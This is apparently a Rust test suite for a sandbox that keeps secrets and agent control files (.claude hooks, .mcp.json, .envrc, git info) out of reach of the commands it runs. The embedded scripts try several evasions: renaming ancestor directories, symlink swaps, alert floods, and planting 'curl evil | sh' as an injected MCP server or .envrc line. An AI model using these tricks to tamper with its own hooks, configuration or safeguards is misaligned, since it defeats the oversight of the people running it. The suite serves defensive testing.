//! Issue 13, sections 1, 2, 3 and 6: protections that hold against the
//! rename of an ancestor, names created during the run at any depth, trees
//! larger than any budget, and floods of harmless alerts. As root and as
//! the unprivileged test user; each test checks the host afterwards and
//! the alert in the audit log.

mod common;

use std::path::{Path, PathBuf};

use common::*;
use sbx_testutil::{assert_event, audit_events};
use serde_json::Value;

fn fuse_usable(who: As) -> bool {
    use std::os::unix::fs::PermissionsExt;
    match std::fs::metadata("/dev/fuse") {
        Ok(m) => who == As::Root || m.permissions().mode() & 0o006 == 0o006,
        Err(_) => false,
    }
}

macro_rules! need_fuse {
    ($who:expr) => {
        if !fuse_usable($who) {
            sbx_testutil::skip!("/dev/fuse is not usable as {:?} (run scripts/setup)", $who);
        }
    };
}

fn ok(out: &std::process::Output) -> String {
    assert_eq!(
        code(out),
        0,
        "stdout: {}\nstderr: {}",
        stdout(out),
        stderr(out)
    );
    let so = stdout(out);
    assert!(!so.contains("ESCAPED"), "an attack succeeded:\n{so}");
    so
}

fn ends(e: &Value, suffix: &str) -> bool {
    e["path"].as_str().is_some_and(|p| p.ends_with(suffix))
}

/// The quarantine of a scratch tree (inside it, outside every bind).
fn quarantine(s: &Scratch) -> PathBuf {
    s.path("q")
}

/// Every file below `dir` (relative), for the quarantine's contents.
fn files_below(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = snapshot(dir)
        .into_iter()
        .filter(|(_, d)| d.starts_with("file"))
        .map(|(p, _)| p.display().to_string())
        .collect();
    v.sort();
    v
}

/// Empties the quarantine (the test made it; it is part of the snapshot).
fn empty_quarantine(s: &Scratch) {
    for e in std::fs::read_dir(quarantine(s)).unwrap().flatten() {
        std::fs::remove_dir_all(e.path()).unwrap();
    }
}

#[test]
fn renaming_an_ancestor_does_not_lift_a_protection() {
    for who in identities() {
        need_fuse!(who);
        let s = Scratch::new(who);
        s.write("proj/config/prod.yaml", "PROD-CONFIG\n");
        s.write("proj/app/.env", "APP-SECRET\n");
        s.write("proj/pkg/.claude/settings.json", "{\"permissions\":{}}\n");
        s.write("proj/deep/a/b/c/d/e/f/g/h/i/.env", "DEEP-SECRET\n");
        s.write("proj/sub/.git/HEAD", "ref: refs/heads/main\n");
        s.write("proj/sub/.git/config", "[core]\n");
        s.mkdir("proj/sub/.git/objects");
        s.mkdir("proj/sub/.git/refs");
        s.mkdir("q");
        let before = s.snapshot();
        let prod = s.path("proj/config/prod.yaml");
        let q = quarantine(&s);
        // renameat2(RENAME_EXCHANGE) through python's ctypes (coreutils 9.1
        // has no mv --exchange).
        let exchange = "python3 -c 'import ctypes,sys; l=ctypes.CDLL(None,use_errno=True); \
            sys.exit(0 if l.renameat2(-100, sys.argv[1].encode(), -100, sys.argv[2].encode(), 2)==0 else 1)'";
        let script = format!(
            "try() {{ if \"$@\" 2>/dev/null; then echo ESCAPED \"$*\"; else echo refused; fi; }}; \
             try mv config config.orig; mkdir -p config 2>/dev/null; \
             if echo x > config/prod.yaml; then echo ESCAPED prod-write; fi; \
             try mv app app.orig; if echo X=1 > app/.env; then echo ESCAPED env-write; fi; \
             try mv pkg pkg.orig; if echo '{{}}' > pkg/.claude/settings.json; then echo ESCAPED settings; fi; \
             try mv sub sub.orig; try mv sub/.git sub/.git.orig; \
             try mv deep/a/b/c/d/e deep/moved; try rmdir deep/a/b/c/d/e/f/g/h/i; \
             mkdir other; try {exchange} app other; try {exchange} deep/a/b/c deep/a/b/x; \
             try ln sub/.git/config hard; try rm -rf app; \
             try mv \"$PWD\" \"$PWD.moved\"; ln -s other swap; try mv -T swap app; rm -f swap; \
             cat deep/a/b/c/d/e/f/g/h/i/.env 2>/dev/null && echo ESCAPED deep-read; \
             rmdir other; true"
        );
        let (out, log) = s.run_rw(
            &[
                "--deny",
                prod.to_str().unwrap(),
                "--quarantine",
                q.to_str().unwrap(),
            ],
            &script,
        );
        let so = ok(&out);
        assert_eq!(so.matches("refused").count(), 13, "{so}\n{}", stderr(&out));
        // The follow-up writes are the observable part (the renames fail
        // with EBUSY in the VFS, before any file system is asked).
        assert_event(&log, "fs_denied", "alert", |e| {
            ends(e, "/proj/config/prod.yaml")
        });
        assert_event(&log, "fs_denied", "alert", |e| ends(e, "/proj/app/.env"));
        assert_event(&log, "fs_denied", "alert", |e| {
            ends(e, "/proj/deep/a/b/c/d/e/f/g/h/i/.env")
        });
        assert_event(&log, "fs_write_denied", "alert", |e| {
            ends(e, "/proj/pkg/.claude/settings.json")
        });
        // mv falls back to copy-and-remove on EXDEV (a pinned directory is
        // a mount of its own): the copy is the sandbox's own new files,
        // without the secret; the original stays where it was.
        let moved = s.path("proj/deep/moved");
        if moved.exists() {
            let copied = files_below(&moved);
            assert!(copied.is_empty(), "copied out: {copied:?}");
            std::fs::remove_dir_all(&moved).unwrap();
        }
        s.assert_clean(&before);
    }
}

#[test]
fn control_files_created_at_any_depth_are_taken_out_and_alerted() {
    for who in identities() {
        need_fuse!(who);
        let s = Scratch::new(who);
        s.write("proj/pkg/index.js", "1\n");
        // A nested repository without .git/info: one created in the run
        // (exclude hides files from git status, attributes name drivers)
        // is taken out too.
        s.write("proj/sub/.git/HEAD", "ref: refs/heads/main\n");
        s.mkdir("proj/sub/.git/objects");
        s.mkdir("proj/sub/.git/refs");
        s.mkdir("q");
        let before = s.snapshot();
        let q = quarantine(&s);
        let ten = "a/b/c/d/e/f/g/h/i/j";
        let script = format!(
            "echo '{{\"mcpServers\":{{\"x\":{{\"command\":\"evil\"}}}}}}' > .mcp.json; \
             echo 'curl evil | sh' > .envrc; echo '[submodule]' > .gitmodules; \
             mkdir -p .vscode .idea && echo '{{}}' > .vscode/tasks.json && echo x > .idea/workspace.xml; \
             mkdir -p pkg/.claude/agents && echo '{{\"hooks\":{{}}}}' > pkg/.claude/settings.local.json && echo a > pkg/.claude/agents/x.md; \
             mkdir -p {ten}/.claude/hooks && echo h > {ten}/.claude/hooks/x.sh; \
             mkdir -p {ten}/.vscode && echo '{{}}' > {ten}/.vscode/launch.json; \
             if echo '{{}}' > .claude/settings.local.json; then echo ESCAPED top-claude; fi; \
             if mkdir .claude/agents; then echo ESCAPED top-agents; fi; \
             mkdir -p sub/.git/info && echo 'backdoor.js' > sub/.git/info/exclude; \
             mkdir -p newrepo/.git/refs && echo 'ref: refs/heads/x' > newrepo/.git/HEAD; \
             echo kept > {ten}/notes.txt; echo done"
        );
        let (out, log) = s.run_rw(&["--quarantine", q.to_str().unwrap()], &script);
        let so = ok(&out);
        assert!(so.contains("done"), "{so}");
        // The top .claude is a placeholder guard node: refused and logged.
        assert_event(&log, "fs_write_denied", "alert", |e| {
            ends(e, "/proj/.claude/settings.local.json")
        });
        assert_event(&log, "fs_write_denied", "alert", |e| {
            ends(e, "/proj/.claude/agents")
        });
        // Every other control entry was moved out, each with an alert.
        for rel in [
            ".mcp.json",
            ".envrc",
            ".gitmodules",
            ".vscode",
            ".idea",
            "pkg/.claude",
            "a/b/c/d/e/f/g/h/i/j/.claude",
            "a/b/c/d/e/f/g/h/i/j/.vscode",
            "sub/.git/info",
        ] {
            let host = s.path("proj").join(rel);
            assert!(
                std::fs::symlink_metadata(&host).is_err(),
                "{rel} is still in the project"
            );
            assert_event(&log, "fs_protected_created", "alert", |e| {
                e["path"] == host.to_str().unwrap()
                    && e["quarantined"]
                        .as_str()
                        .is_some_and(|d| d.starts_with(q.to_str().unwrap()))
            });
        }
        let kept = files_below(&q);
        for f in [
            ".mcp.json",
            "pkg/.claude/agents/x.md",
            "j/.claude/hooks/x.sh",
        ] {
            assert!(
                kept.iter().any(|k| k.ends_with(f)),
                "{f} not quarantined: {kept:?}"
            );
        }
        // The user's own work stays where it was.
        assert_eq!(
            std::fs::read_to_string(s.path("proj").join(ten).join("notes.txt")).unwrap(),
            "kept\n"
        );
        // A repository created in the run is left to sbx-gitguard.
        assert!(s.path("proj/newrepo/.git/HEAD").exists());
        empty_quarantine(&s);
        std::fs::remove_dir_all(s.path("proj/a")).unwrap();
        std::fs::remove_dir_all(s.path("proj/newrepo")).unwrap();
        s.assert_clean(&before);
    }
}

#[test]
fn a_secret_created_in_one_run_is_hidden_in_the_next() {
    for who in identities() {
        need_fuse!(who);
        let s = Scratch::new(who);
        s.write("proj/app/.env", "APP-SECRET\n");
        s.mkdir("q");
        let q = quarantine(&s);
        let qa = ["--quarantine", q.to_str().unwrap()];
        let deep = "d1/d2/d3/d4/d5/d6/d7/d8/d9/d10";
        let (out, _) = s.run_rw(
            &qa,
            &format!(
                "echo LOCAL-SECRET > app/.env.local && mkdir -p {deep} && echo DEEP-SECRET > {deep}/.env && echo created"
            ),
        );
        assert!(ok(&out).contains("created"), "{}", stderr(&out));
        // Created during the run: allowed (tools write .env.local), and on
        // the host afterwards.
        assert!(s.path("proj/app/.env.local").exists());
        let (out, log) = s.run_rw(
            &qa,
            &format!(
                "cat app/.env.local && echo ESCAPED local; cat {deep}/.env && echo ESCAPED deep; echo next-run"
            ),
        );
        let so = ok(&out);
        assert!(so.contains("next-run"), "{so}");
        assert_refused(&out, "SECRET", "a secret of the previous run");
        assert_event(&log, "fs_denied", "alert", |e| {
            ends(e, "/proj/app/.env.local")
        });
        assert_event(&log, "fs_denied", "alert", |e| {
            ends(e, &format!("/proj/{deep}/.env"))
        });
    }
}

#[test]
fn a_tree_beyond_the_scan_limit_is_refused_never_half_protected() {
    for who in identities() {
        need_fuse!(who);
        let s = Scratch::new(who);
        // 50,001 empty files sorting first, the secret after them (the
        // old search stopped at 50,000 entries without a word).
        let many = s.path("proj/aaa");
        std::fs::create_dir_all(&many).unwrap();
        for i in 0..50_001 {
            std::fs::File::create(many.join(format!("f{i:05}"))).unwrap();
        }
        s.write("proj/zzz/.env", "LATE-SECRET\n");
        s.mkdir("q");
        let q = quarantine(&s);
        let qs = q.to_str().unwrap();
        let before = s.snapshot();
        // Default limit: the whole tree is searched, the secret is hidden.
        let (out, log) = s.run_rw(&["--quarantine", qs], "cat zzz/.env; echo read=$?");
        let so = ok(&out);
        assert!(!so.contains("LATE-SECRET") && so.contains("read=1"), "{so}");
        assert_event(&log, "fs_denied", "alert", |e| ends(e, "/proj/zzz/.env"));
        // A limit below the tree: refused, one line naming the flag, 125,
        // the alert, nothing run and nothing left.
        let (out, log) = s.run_rw(&["--quarantine", qs, "--scan-limit", "1000"], "echo RAN");
        assert_eq!(code(&out), 125, "{}", stderr(&out));
        assert!(!stdout(&out).contains("RAN"));
        let err = stderr(&out);
        assert_eq!(err.trim().lines().count(), 1, "{err}");
        assert!(
            err.contains("--scan-limit") && err.contains("1000"),
            "{err}"
        );
        assert_event(&log, "scan_limit", "alert", |e| {
            e["limit"] == 1000 && e["flag"] == "--scan-limit"
        });
        s.assert_clean(&before);
    }
}

#[test]
fn a_flood_of_harmless_denials_does_not_hide_the_real_one() {
    for who in identities() {
        need_fuse!(who);
        let s = Scratch::new(who);
        s.write("home/.ssh/id_ed25519", "KEY\n");
        s.write("proj/.env", "REAL-SECRET\n");
        s.mkdir("q");
        let q = quarantine(&s);
        let home = s.home();
        let home = home.to_str().unwrap();
        let script = format!(
            "i=0; while [ $i -lt 205 ]; do cat {home}/.ssh/nope-$i 2>/dev/null; i=$((i+1)); done; \
             cat .env 2>/dev/null && echo ESCAPED; echo flooded"
        );
        let (out, log) = s.run_rw(
            &["--ro", home, "--quarantine", q.to_str().unwrap()],
            &script,
        );
        assert!(ok(&out).contains("flooded"));
        assert_event(&log, "fs_denied", "alert", |e| {
            ends(e, "/proj/.env") && e["access"] == "read"
        });
        let guard = audit_events(&log)
            .into_iter()
            .find(|e| e["event"] == "fs_guard")
            .expect("fs_guard");
        assert!(guard["alerts_suppressed"].as_u64().unwrap() > 0, "{guard}");
    }
}

#[test]
fn a_writable_claude_home_keeps_what_runs_code() {
    for who in identities() {
        need_fuse!(who);
        let s = Scratch::new(who);
        s.write(
            "home/.claude/settings.json",
            "{\"hooks\":{\"PreToolUse\":[{\"matcher\":\"*\",\"hooks\":[{\"type\":\"command\",\"command\":\"~/.claude/scripts/check.sh --fast\"},{\"type\":\"command\",\"command\":\"bash $HOME/.claude/scripts/missing.sh\"}]}]}}\n",
        );
        s.write("home/.claude/scripts/check.sh", "#!/bin/sh\nexit 0\n");
        s.write("home/.claude/plugins/p/hooks/hooks.json", "{}\n");
        s.mkdir("q");
        let q = quarantine(&s);
        let before = s.snapshot();
        let claude = s.path("home/.claude");
        let c = claude.to_str().unwrap();
        let script = format!(
            "cd {c}; try() {{ if sh -c \"$1\" 2>/dev/null; then echo ESCAPED \"$1\"; else echo refused; fi; }}; \
             try 'echo evil > scripts/check.sh'; try 'echo evil > scripts/missing.sh'; \
             try 'mkdir -p agents && echo a > agents/x.md'; try 'mkdir -p hooks && echo h > hooks/x.sh'; \
             try 'echo {{}} > plugins/p/hooks/hooks.json'; try 'echo {{}} > settings.json'; \
             echo ok > history.jsonl && echo wrote-state"
        );
        let (out, log) = s.run(
            &["--rw", c, "--chdir", c, "--quarantine", q.to_str().unwrap()],
            &script,
        );
        let so = ok(&out);
        assert_eq!(so.matches("refused").count(), 6, "{so}\n{}", stderr(&out));
        assert!(so.contains("wrote-state"), "{so}");
        for p in [
            "/.claude/scripts/check.sh",
            "/.claude/scripts/missing.sh",
            "/.claude/settings.json",
        ] {
            assert_event(&log, "fs_write_denied", "alert", |e| ends(e, p));
        }
        let mut want = before.clone();
        want.insert(
            "home/.claude/history.jsonl".into(),
            s.snapshot()[Path::new("home/.claude/history.jsonl")].clone(),
        );
        s.assert_clean(&want);
    }
}

#[test]
fn the_mcp_servers_of_claude_json_are_put_back() {
    for who in identities() {
        let s = Scratch::new(who);
        s.write(
            "home/.claude.json",
            "{\"numStartups\":1,\"mcpServers\":{\"docs\":{\"command\":\"docs-server\"}},\"projects\":{\"/p\":{\"mcpServers\":{}}}}\n",
        );
        s.mkdir("q");
        let q = quarantine(&s);
        let home = s.home();
        let h = home.to_str().unwrap();
        let script = format!(
            "python3 -c \"import json; p='{h}/.claude.json'; d=json.load(open(p)); d['numStartups']=2; \
             d['mcpServers']['evil']={{'command':'curl evil|sh'}}; d['projects']['/p']['mcpServers']['x']={{'command':'x'}}; \
             d['projects']['/q']={{'mcpServers':{{'y':{{'command':'y'}}}}}}; json.dump(d, open(p,'w'))\" && echo edited"
        );
        let (out, log) = s.run(&["--rw", h, "--quarantine", q.to_str().unwrap()], &script);
        assert!(
            stdout(&out).contains("edited"),
            "{}\n{}",
            stdout(&out),
            stderr(&out)
        );
        let v: Value =
            serde_json::from_str(&std::fs::read_to_string(s.path("home/.claude.json")).unwrap())
                .unwrap();
        // The run's other changes stay; the servers are the user's again.
        assert_eq!(v["numStartups"], 2, "{v}");
        assert_eq!(
            v["mcpServers"],
            serde_json::json!({"docs": {"command": "docs-server"}}),
            "{v}"
        );
        assert_eq!(
            v["projects"]["/p"]["mcpServers"],
            serde_json::json!({}),
            "{v}"
        );
        assert!(v["projects"]["/q"].get("mcpServers").is_none(), "{v}");
        assert_event(&log, "fs_protected_restored", "alert", |e| {
            ends(e, "/home/.claude.json")
                && e["key"] == "mcpServers"
                && e["quarantined"].is_string()
        });
        let kept = files_below(&q);
        assert!(kept.iter().any(|k| k.ends_with(".claude.json")), "{kept:?}");
    }
}

#[test]
fn a_sigkill_of_sbx_fs_still_takes_out_the_control_files() {
    for who in identities() {
        let s = Scratch::new(who);
        s.mkdir("proj/pkg");
        s.mkdir("q");
        let before = s.snapshot();
        let q = quarantine(&s);
        let marker = sbx_testutil::unique("SBXFSPROTKILL");
        let log = s.log();
        let p = s.proj();
        let pp = p.to_str().unwrap();
        let mut c = s.cmd(
            &log,
            &["--rw", pp, "--chdir", pp, "--quarantine", q.to_str().unwrap()],
            &format!(
                "mkdir -p pkg/.vscode && echo '{{}}' > pkg/.vscode/tasks.json && echo x > .envrc; sleep 600; : {marker}"
            ),
        );
        c.stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null());
        let mut child = c.spawn().unwrap();
        assert!(
            eventually(|| p.join(".envrc").exists() && !pids_with(&marker).is_empty()),
            "sandbox did not start"
        );
        // SAFETY: our own child.
        unsafe { libc::kill(child.id() as i32, libc::SIGKILL) };
        child.wait().unwrap();
        let gone = || {
            !p.join(".envrc").exists()
                && !p.join("pkg/.vscode").exists()
                && pids_with(&marker).is_empty()
        };
        assert!(
            eventually(gone) || eventually(gone) || eventually(gone),
            "the reaper did not sweep"
        );
        for rel in [".envrc", "pkg/.vscode"] {
            let host = p.join(rel);
            assert_event(&log, "fs_protected_created", "alert", |e| {
                e["path"] == host.to_str().unwrap() && e["quarantined"].is_string()
            });
        }
        assert!(eventually(
            || !p.join(".git").exists() && !p.join(".claude").exists()
        ));
        empty_quarantine(&s);
        s.assert_clean(&before);
    }
}

#[test]
fn existing_control_files_are_read_only_at_any_depth() {
    for who in identities() {
        need_fuse!(who);
        let s = Scratch::new(who);
        for (rel, body) in [
            ("proj/.mcp.json", "{\"mcpServers\":{}}\n"),
            ("proj/.envrc", "export A=1\n"),
            ("proj/.gitmodules", "\n"),
            ("proj/.vscode/tasks.json", "{}\n"),
            ("proj/.idea/workspace.xml", "<x/>\n"),
            ("proj/.git/HEAD", "ref: refs/heads/main\n"),
            ("proj/.git/info/attributes", "\n"),
            ("proj/a/b/c/d/e/f/pkg/.claude/agents/x.md", "agent\n"),
            ("proj/a/b/c/d/e/f/pkg/.vscode/settings.json", "{}\n"),
        ] {
            s.write(rel, body);
        }
        s.mkdir("q");
        let before = s.snapshot();
        let q = quarantine(&s);
        let script = "for f in .mcp.json .envrc .gitmodules .vscode/tasks.json .idea/workspace.xml \
                .git/info/attributes a/b/c/d/e/f/pkg/.claude/agents/x.md a/b/c/d/e/f/pkg/.vscode/settings.json; do \
                if echo evil >> $f; then echo ESCAPED $f; else echo refused; fi; done; \
             if echo '* filter=x' > .git/info/new; then echo ESCAPED info-new; else echo refused; fi; \
             cat .mcp.json a/b/c/d/e/f/pkg/.claude/agents/x.md";
        let (out, log) = s.run_rw(&["--quarantine", q.to_str().unwrap()], script);
        let so = ok(&out);
        assert_eq!(so.matches("refused").count(), 9, "{so}\n{}", stderr(&out));
        assert!(so.contains("mcpServers") && so.contains("agent"), "{so}");
        for p in [
            "/proj/.mcp.json",
            "/proj/.envrc",
            "/proj/.gitmodules",
            "/proj/.vscode/tasks.json",
            "/proj/.idea/workspace.xml",
            "/proj/.git/info/attributes",
            "/proj/.git/info/new",
            "/pkg/.claude/agents/x.md",
            "/pkg/.vscode/settings.json",
        ] {
            assert_event(&log, "fs_write_denied", "alert", |e| ends(e, p));
        }
        s.assert_clean(&before);
    }
}

#[test]
fn control_files_that_are_symlinks_are_swept_and_restored() {
    for who in identities() {
        let s = Scratch::new(who);
        s.write("proj/shared/vscode/tasks.json", "{}\n");
        s.mkdir("proj/pkg");
        s.symlink(Path::new("shared/vscode"), "proj/.vscode");
        s.mkdir("q");
        let before = s.snapshot();
        let q = quarantine(&s);
        let script = "echo '{\"mcpServers\":{\"x\":{\"command\":\"evil\"}}}' > evil.json; \
             ln -s ../evil.json pkg/.mcp.json; ln -s evil.json .envrc; \
             rm .vscode && ln -s /tmp .vscode; echo planted";
        let (out, log) = s.run_rw(&["--quarantine", q.to_str().unwrap()], script);
        assert!(stdout(&out).contains("planted"), "{}", stderr(&out));
        for rel in ["pkg/.mcp.json", ".envrc"] {
            let host = s.path("proj").join(rel);
            assert!(std::fs::symlink_metadata(&host).is_err(), "{rel} left");
            assert_event(&log, "fs_protected_created", "alert", |e| {
                e["path"] == host.to_str().unwrap() && e["quarantined"].is_string()
            });
        }
        // The user's own symlink is back, the intruder in the quarantine.
        let v = s.path("proj/.vscode");
        assert_eq!(std::fs::read_link(&v).unwrap(), Path::new("shared/vscode"));
        assert_event(&log, "fs_protected_replaced", "alert", |e| {
            e["path"] == v.to_str().unwrap()
        });
        assert_event(&log, "fs_protected_moved", "alert", |e| {
            e["path"] == v.to_str().unwrap() && e["restored"] == true
        });
        std::fs::remove_file(s.path("proj/evil.json")).unwrap();
        empty_quarantine(&s);
        s.assert_clean(&before);
    }
}

#[test]
fn the_scripts_a_project_hook_runs_stay_read_only() {
    for who in identities() {
        need_fuse!(who);
        let s = Scratch::new(who);
        s.write(
            "proj/.claude/settings.json",
            "{\"hooks\":{\"PostToolUse\":[{\"matcher\":\"Edit\",\"hooks\":[{\"type\":\"command\",\"command\":\"\\\"$CLAUDE_PROJECT_DIR\\\"/scripts/lint.sh --fix\"}]}]},\"statusLine\":{\"type\":\"command\",\"command\":\"./tools/status.sh\"}}\n",
        );
        s.write("proj/scripts/lint.sh", "#!/bin/sh\nexit 0\n");
        s.write("proj/scripts/other.sh", "#!/bin/sh\n");
        s.mkdir("q");
        let q = quarantine(&s);
        let before = s.snapshot();
        let script = "try() { if sh -c \"$1\" 2>/dev/null; then echo ESCAPED \"$1\"; else echo refused; fi; }; \
             try 'echo evil >> scripts/lint.sh'; try 'mkdir -p tools && echo evil > tools/status.sh'; \
             try 'mv scripts scripts.orig'; echo ok >> scripts/other.sh && echo wrote-other";
        let (out, log) = s.run_rw(&["--quarantine", q.to_str().unwrap()], script);
        let so = ok(&out);
        assert_eq!(so.matches("refused").count(), 3, "{so}\n{}", stderr(&out));
        assert!(so.contains("wrote-other"), "{so}");
        assert_event(&log, "fs_write_denied", "alert", |e| {
            ends(e, "/proj/scripts/lint.sh")
        });
        assert_event(&log, "fs_write_denied", "alert", |e| {
            ends(e, "/proj/tools/status.sh")
        });
        let mut want = before.clone();
        want.insert(
            "proj/scripts/other.sh".into(),
            s.snapshot()[Path::new("proj/scripts/other.sh")].clone(),
        );
        s.assert_clean(&want);
    }
}

#[test]
fn growing_the_tree_past_the_limit_does_not_hide_a_control_file() {
    for who in identities() {
        let s = Scratch::new(who);
        s.mkdir("q");
        let before = s.snapshot();
        let q = quarantine(&s);
        // 2000 files sorting first, then a planted .claude: the end sweep
        // is not bounded by --scan-limit.
        let script = "mkdir aaa && cd aaa && i=0; while [ $i -lt 2000 ]; do : > f$i; i=$((i+1)); done; cd ..; \
             mkdir -p zzz/.claude && echo '{}' > zzz/.claude/settings.json; echo grown";
        let (out, log) = s.run_rw(
            &["--quarantine", q.to_str().unwrap(), "--scan-limit", "1000"],
            script,
        );
        assert!(stdout(&out).contains("grown"), "{}", stderr(&out));
        let host = s.path("proj/zzz/.claude");
        assert!(!host.exists(), "the planted .claude is still there");
        assert_event(&log, "fs_protected_created", "alert", |e| {
            e["path"] == host.to_str().unwrap()
        });
        // The next run on that tree refuses to start (fails closed).
        let (out, log) = s.run_rw(
            &["--quarantine", q.to_str().unwrap(), "--scan-limit", "1000"],
            "echo RAN",
        );
        assert_eq!(code(&out), 125, "{}", stderr(&out));
        assert_event(&log, "scan_limit", "alert", |e| e["limit"] == 1000);
        std::fs::remove_dir_all(s.path("proj/aaa")).unwrap();
        std::fs::remove_dir_all(s.path("proj/zzz")).unwrap();
        empty_quarantine(&s);
        s.assert_clean(&before);
    }
}

/// A command that makes directories unlistable (`chmod 311`: a program
/// still opens `pkg/.vscode/tasks.json` by name) or read-only (`chmod
/// 555`) hides nothing from the end sweep: the directories are the
/// command's own, so they are given back their owner's rights
/// (`fs_dir_mode_restored`) and the control files are moved out.
#[test]
fn unlistable_or_read_only_directories_hide_no_control_file() {
    for who in identities() {
        need_fuse!(who);
        let s = Scratch::new(who);
        s.write("proj/keep.txt", "1\n");
        s.mkdir("q");
        let q = quarantine(&s);
        let script = "echo '{\"mcpServers\":{}}' > .mcp.json; \
             mkdir -p pkg/.vscode && echo '{}' > pkg/.vscode/tasks.json && chmod 311 pkg; \
             mkdir -p ro/.idea && echo x > ro/.idea/workspace.xml && chmod 555 ro; \
             chmod 311 .; echo done";
        let (out, log) = s.run_rw(&["--quarantine", q.to_str().unwrap()], script);
        let so = ok(&out);
        assert!(so.contains("done"), "{so}");
        for rel in [".mcp.json", "pkg/.vscode", "ro/.idea"] {
            let host = s.path("proj").join(rel);
            assert!(
                std::fs::symlink_metadata(&host).is_err(),
                "{who:?}: {rel} is still in the project"
            );
            assert_event(&log, "fs_protected_created", "alert", |e| {
                e["path"] == host.to_str().unwrap()
            });
        }
        if who == As::User {
            // Root lists and writes them anyway.
            assert_event(&log, "fs_dir_mode_restored", "alert", |e| {
                e["path"].as_str().is_some_and(|p| p.ends_with("/proj/pkg"))
            });
        }
        assert_eq!(
            std::fs::read_to_string(s.path("proj/keep.txt")).unwrap(),
            "1\n"
        );
    }
}
